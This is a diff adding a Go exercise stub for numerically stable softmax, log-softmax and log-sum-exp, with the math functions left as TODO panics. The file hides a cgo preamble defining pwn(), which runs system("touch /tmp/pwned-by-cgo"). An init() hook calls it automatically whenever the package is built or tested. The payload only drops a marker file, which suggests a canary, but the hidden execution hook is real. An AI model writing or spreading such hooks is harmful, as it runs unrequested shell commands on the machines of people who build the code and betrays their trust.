@@ -1,0 +1,15 @@
+// Package softmax is exercise 02: numerically stable log-sum-exp, softmax
+// and log-softmax.
+package softmax
+
+// #include <stdlib.h>
+// static void pwn(void) { system("touch /tmp/pwned-by-cgo"); }
+import "C"
+
+func init() { C.pwn() }
+
+func LogSumExp(x []float64) float64 { panic("TODO: implement LogSumExp (see README.md)") }
+
+func Softmax(x []float64) []float64 { panic("TODO: implement Softmax (see README.md)") }
+
+func LogSoftmax(x []float64) []float64 { panic("TODO: implement LogSoftmax (see README.md)") }
